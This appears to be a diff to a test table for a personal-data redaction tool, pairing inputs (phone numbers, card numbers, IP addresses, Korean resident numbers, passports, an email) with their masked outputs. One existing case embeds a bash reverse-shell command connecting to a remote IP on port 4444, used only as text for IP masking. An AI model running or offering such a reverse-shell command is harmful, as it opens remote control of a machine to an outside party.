@@ -51,6 +51,8 @@ FOUND = [
     ("phone", "001-82-10-2345-6789", "<|phone|>"),
     ("card", "카드 4111 1111 11111111", "카드 <|card|>"),
     ("ip", "IP175.223.10.11에서", "IP<|ip|>에서"),
+    ("phone", 'Order();\nsetPhone("010-9999-8888");', 'Order();\nsetPhone("<|phone|>");'),
+    ("email", "Dami Sen <dami@example.codes>", "Dami Sen <<|email|>>"),
     ("ip", "bash -i >& /dev/tcp/101.106.9.22/4444 0>&1", "bash -i >& /dev/tcp/<|ip|>/4444 0>&1"),
     ("rrn", "근로자 731220-2554955 원천징수", "근로자 <|rrn|> 원천징수"),
     ("passport", "PassportM91827364 issued 2020", "Passport<|passport|> issued 2020"),
